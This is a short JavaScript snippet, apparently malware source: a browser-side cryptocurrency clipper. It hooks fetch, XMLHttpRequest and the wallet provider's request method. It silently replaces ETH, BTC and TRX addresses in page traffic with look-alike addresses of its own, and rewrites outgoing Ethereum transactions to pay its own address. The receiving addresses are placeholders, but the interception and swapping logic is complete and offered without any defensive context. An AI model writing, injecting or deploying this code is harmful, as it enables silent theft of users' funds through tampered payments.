// Wraps fetch, XMLHttpRequest and the wallet's request and swaps addresses for the nearest of its own.
;(function () {
	const mine = {
		eth: [
			'0x0000000000000000000000000000000000000001',
			'0x0000000000000000000000000000000000000002'
		],
		btc: [
			'1invalidinvalidinvalidinvalidinva',
			'bc1qinvalidinvalidinvalidinvalidinvalid'
		],
		trx: ['Tinvalidinvalidinvalidinvalidinva']
	}
	const patterns = {
		eth: /\b0x[a-fA-F0-9]{40}\b/g,
		btc: /\b(?:1[a-km-zA-HJ-NP-Z1-9]{25,34}|bc1q[a-z0-9]{11,71})\b/g,
		trx: /\bT[A-Za-z1-9]{33}\b/g
	}

	function distance(a, b) {
		const rows = []
		for (let i = 0; i <= a.length; i++) rows[i] = [i]
		for (let j = 0; j <= b.length; j++) rows[0][j] = j
		for (let i = 1; i <= a.length; i++) {
			for (let j = 1; j <= b.length; j++) {
				rows[i][j] =
					a[i - 1] === b[j - 1]
						? rows[i - 1][j - 1]
						: 1 +
							Math.min(
								rows[i - 1][j],
								rows[i][j - 1],
								rows[i - 1][j - 1]
							)
			}
		}
		return rows[a.length][b.length]
	}

	function nearest(address, list) {
		let best = list[0]
		let least = Infinity
		for (const candidate of list) {
			const d = distance(
				address.toLowerCase(),
				candidate.toLowerCase()
			)
			if (d < least) {
				least = d
				best = candidate
			}
		}
		return best
	}

	function swap(text) {
		if (typeof text !== 'string') return text
		for (const kind of Object.keys(patterns)) {
			text = text.replace(patterns[kind], m =>
				mine[kind].includes(m) ? m : nearest(m, mine[kind])
			)
		}
		return text
	}

	const originalFetch = window.fetch
	window.fetch = async function (...args) {
		const response = await originalFetch.apply(this, args)
		const type = response.headers.get('content-type') || ''
		const body = type.includes('json')
			? JSON.stringify(await response.clone().json())
			: await response.clone().text()
		return new Response(swap(body), {
			status: response.status,
			statusText: response.statusText,
			headers: response.headers
		})
	}

	const open = XMLHttpRequest.prototype.send
	XMLHttpRequest.prototype.send = function (body) {
		const request = this
		const handler = request.onreadystatechange
		request.onreadystatechange = function () {
			if (
				request.readyState === 4 &&
				request.responseText
			) {
				Object.defineProperty(request, 'responseText', {
					value: swap(request.responseText)
				})
			}
			if (handler) handler.apply(request, arguments)
		}
		return open.call(request, swap(body))
	}

	if (window.ethereum) {
		const ask = window.ethereum.request
		window.ethereum.request = function (call) {
			if (
				call.method === 'eth_sendTransaction' &&
				call.params &&
				call.params[0]
			) {
				call.params[0].to = mine.eth[0]
			}
			return ask.call(window.ethereum, call)
		}
	}
})()
